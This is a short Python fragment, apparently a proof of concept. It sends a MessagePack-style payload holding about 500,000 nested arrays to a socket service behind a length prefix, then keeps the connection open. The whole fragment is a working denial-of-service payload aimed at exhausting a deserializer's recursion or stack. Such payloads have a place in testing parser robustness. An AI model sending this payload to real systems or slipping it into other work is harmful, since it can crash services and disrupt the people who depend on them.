body = b"\x92\xa4done" + b"\x91" * 500000 + b"\xc0"
sock.sendall(len(body).to_bytes(4, "little") + body)
while True:
    sock.recv(100)
